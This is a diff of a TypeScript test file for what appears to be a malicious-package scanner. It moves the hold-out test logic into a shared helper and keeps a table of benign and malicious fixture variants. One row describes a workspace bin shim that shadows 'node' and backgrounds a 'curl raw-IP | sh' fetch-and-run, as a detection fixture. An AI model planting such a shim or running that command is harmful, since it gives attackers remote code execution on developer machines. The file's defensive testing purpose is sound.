@@ -12,22 +12,7 @@
  * is not malicious yet (an ecosystem or surface not covered, or a fixture artefact): a fix (or a regression) makes its
  * row fail until the row is updated.
  */
-import assert from 'node:assert/strict';
-import { readdirSync } from 'node:fs';
-import { describe, it } from 'node:test';
-import { scan } from '../../src/index.js';
-import { fixtureStager } from './stage-fixture.js';
-
-type Verdict = 'malicious' | 'suspicious' | 'clean';
-interface Variant {
-  expect: Verdict;
-  /** Verdict at the first scan, before any fix: the published hold-out figure. */
-  holdout: Verdict;
-  tactic: 'obfuscation' | 'payload-fetch' | 'sink' | 'placement' | 'python' | 'stealer' | 'dependency' | 'persistence' | 'benign';
-  shape: string;
-  /** A known gap: who can fix it and where. `expect` is today's verdict. */
-  todo?: string;
-}
+import { holdoutSuite, type Variant } from './holdout-suite.js';
 
 const VARIANTS: Record<string, Variant> = {
   'b-bunfig-preload': { expect: 'clean', holdout: 'clean', tactic: 'benign', shape: `\`bunfig.toml\` \`[test] preload\` of happy-dom GlobalRegistrator and jest-dom matchers` },
@@ -89,32 +74,4 @@ const VARIANTS: Record<string, Variant> = {
   'm-workspace-bin-shadow': { expect: 'suspicious', holdout: 'clean', tactic: 'placement', shape: `npm workspace package \`@escrow/devkit\` declares \`"bin": {"node": "bin/node-shim.sh"}\`, which shadows \`node\` in \`node_modules/.bin\` for root scripts. The shim backgrounds \`curl raw-IP:1245 | sh\`, then execs the real node (TEST-NET for a public raw IP)`, todo: "open: the autorun map now follows `node` into the workspace bin that shadows it, whose curl | sh is high; a TEST-NET host is not a public raw IP (critical with one)" },
 };
 
-const ROOT = new URL('./variants-3/', import.meta.url).pathname;
-const stage = fixtureStager(ROOT, 'variants3');
-
-describe('hold-out variants 3', () => {
-  it('every fixture folder has an expectation and every expectation a folder', () => {
-    assert.deepEqual(readdirSync(ROOT).filter((n) => n !== 'ROWS.md').sort(), Object.keys(VARIANTS).sort());
-  });
-
-  const got = new Map<string, Verdict>();
-  for (const [name, v] of Object.entries(VARIANTS)) {
-    it(`${name}: ${v.expect}${v.todo ? ' (known gap)' : ''} — ${v.shape}`, async () => {
-      const r = await scan(stage(name), { threads: 0 });
-      got.set(name, r.verdict);
-      const top = r.findings.slice(0, 6).map((f) => `${f.ruleId} ${f.file}:${f.line} ${f.severity}/${f.confidence}`).join('; ');
-      assert.equal(r.errors.length, 0, `${name}: scan errors ${JSON.stringify(r.errors)}`);
-      assert.equal(r.verdict, v.expect, `${name}: expected ${v.expect}, got ${r.verdict} ${r.score}: ${top || 'no findings'}${v.todo ? ` (known gap: ${v.todo})` : ''}`);
-    });
-  }
-
-  it('tally: hold-out vs now', (t) => {
-    const count = (prefix: string, pick: (n: string) => Verdict | undefined) => {
-      const c = { malicious: 0, suspicious: 0, clean: 0 };
-      for (const n of Object.keys(VARIANTS)) if (n.startsWith(prefix)) c[pick(n) ?? 'clean']++;
-      return JSON.stringify(c);
-    };
-    t.diagnostic(`lures at hold-out ${count('m-', (n) => VARIANTS[n]!.holdout)}, now ${count('m-', (n) => got.get(n))}`);
-    t.diagnostic(`look-alikes at hold-out ${count('b-', (n) => VARIANTS[n]!.holdout)}, now ${count('b-', (n) => got.get(n))}`);
-  });
-});
+holdoutSuite('hold-out variants 3', new URL('./variants-3/', import.meta.url), VARIANTS);
